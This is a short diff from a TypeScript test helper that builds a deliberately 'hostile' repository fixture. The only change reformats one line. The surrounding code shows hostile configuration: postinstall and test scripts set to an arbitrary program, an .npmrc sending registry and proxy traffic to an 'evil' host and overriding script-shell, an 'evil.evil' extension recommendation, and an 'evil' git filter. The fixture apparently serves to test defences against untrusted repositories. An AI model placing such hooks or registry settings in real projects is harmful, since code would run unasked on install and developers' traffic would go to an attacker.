@@ -118,7 +118,10 @@ function writePrograms(repository: GitRepository, evil: string, program: string,
     }),
   );
   repository.write('.vscode/extensions.json', JSON.stringify({ recommendations: ['evil.evil'] }));
-  repository.write('package.json', JSON.stringify({ name: 'hostile', scripts: { postinstall: program, test: program } }));
+  repository.write(
+    'package.json',
+    JSON.stringify({ name: 'hostile', scripts: { postinstall: program, test: program } }),
+  );
   repository.write('.npmrc', `registry=${evil}/\nproxy=${evil}\nscript-shell=${program}\n`);
   repository.write('.gitattributes', '*.md filter=evil diff=evil\n');
   repository.write('.editorconfig', 'root = true\n');
